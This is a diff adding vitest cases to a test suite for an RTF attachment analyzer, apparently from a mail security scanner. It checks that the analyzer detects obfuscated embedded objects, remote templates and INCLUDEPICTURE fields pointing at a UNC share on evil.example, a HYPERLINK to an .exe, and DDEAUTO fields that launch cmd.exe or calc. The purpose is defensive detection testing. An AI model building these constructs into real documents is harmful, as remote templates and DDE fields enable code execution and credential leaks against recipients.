@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { ascii, asciiz, classId, hex, join, u16, u32 } from './byte-builder.ts';
 import { compoundFile } from './compound-builder.ts';
+import { readDocumentContent } from '../../../../core/mail/attachment/document.ts';
 import { detailsOf, documentFacts } from './facts.ts';
 
 const text = (value: string): Uint8Array => join(u32(value.length + 1), asciiz(value));
@@ -36,6 +37,22 @@ describe('objects in RTF', () => {
     [
       'with raw bytes',
       `{\\rtf1{\\object{\\*\\objdata ${equation.slice(0, 20)}\\bin${equation.length / 2 - 10} ${Buffer.from(equation.slice(20), 'hex').toString('latin1')}}}}`,
+    ],
+    [
+      'with a digit that Word drops at an escaped character',
+      `{\\rtf1{\\object{\\*\\objdata ${equation.replace(/.{8}/g, "$&7\\'aa")}}}}`,
+    ],
+    [
+      'with escaped characters that are none',
+      `{\\rtf1{\\object{\\*\\objdata ${equation.replace(/.{8}/g, "$&\\'5z")}}}}`,
+    ],
+    [
+      'with the length of nothing in many digits',
+      `{\\rtf1{\\object{\\*\\objdata ${equation.replace(/.{8}/g, `$&\\bin${'0'.repeat(200)} `)}}}}`,
+    ],
+    [
+      'within another object',
+      `{\\rtf1{\\object{\\*\\objdata ${hex(object('PBrush', ascii('BM')))}{\\*\\objdata ${equation}}}}}`,
     ],
     ['cut off', `{\\rtf1{\\object{\\*\\objdata ${equation}`],
     ['shifted by one digit', `{\\rtf1{\\object{\\*\\objdata 0${equation}}}}`],
@@ -88,6 +105,41 @@ describe('objects in RTF', () => {
     ).toEqual(['DDEAUTO cmd "/c calc"']);
     expect(facts('{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} text {\\pict 0102}}')).toEqual([]);
   });
+});
+
+test('what RTF writes with a backslash of its own', () => {
+  const share = String.raw`\\\\evil.example\\share\\a`;
+  expect(facts(`{\\rtf1{\\*\\template ${share}.dotm}}`)).toEqual([
+    { kind: 'remote-template', detail: String.raw`\\evil.example\share\a.dotm` },
+  ]);
+  expect(facts(String.raw`{\rtf1{\*\template http://t.example/\{a\}\_b}}`)).toEqual([
+    { kind: 'remote-template', detail: 'http://t.example/{a}-b' },
+  ]);
+  const instruction = (text: string) => facts(String.raw`{\rtf1{\field{\*\fldinst ${text}}{\fldrslt x}}}`);
+  expect(instruction(`INCLUDEPICTURE "${share.replaceAll('\\', '\\\\')}.png"`)).toEqual([
+    { kind: 'remote-picture', detail: String.raw`INCLUDEPICTURE "\\\\evil.example\\share\\a.png"` },
+  ]);
+  expect(instruction(`HYPERLINK "${share.replaceAll('\\', '\\\\')}.exe"`)[0]?.detail).toContain('evil.example');
+  expect(detailsOf(instruction(String.raw`DDEAUTO "c:\\a\\cmd.exe" x`), 'dde')).toEqual([
+    String.raw`DDEAUTO "c:\a\cmd.exe" x`,
+  ]);
+});
+
+test('control words of other names and what ends with a group change nothing', () => {
+  const link = [{ kind: 'document-link', detail: 'http://e.example/a' }];
+  const field = (instruction: string): string => `{\\field{\\*\\fldinst ${instruction} "http://e.example/a"}}`;
+  expect(facts(`{\\rtf1${field('\\toString HYPERLINK')}}`)).toEqual(link);
+  expect(facts(`{\\rtf1${field('\\constructor HYPERLINK')}}`)).toEqual(link);
+  expect(facts(`{\\rtf1{\\uc9999 x}${field('\\u72 ?YPERLINK')}}`)).toEqual(link);
+});
+
+test('codes are looked for in its pictures that are files', () => {
+  const picture = ascii('\x89PNG\r\n\x1a\n');
+  const source = `{\\rtf1{\\*\\shppict{\\pict{\\*\\blipuid 0102}\\pngblip\\picw1 ${hex(picture)}}}{\\pict\\wmetafile8 0102}{\\pict\\jpegblip\\bin3 \xff\xd8\xff}`;
+  expect(readDocumentContent(ascii(source)).pictures.map((unpack) => unpack())).toEqual([
+    picture,
+    ascii('\xff\xd8\xff'),
+  ]);
 });
 
 test('a template and a class written in \\u escapes', () => {
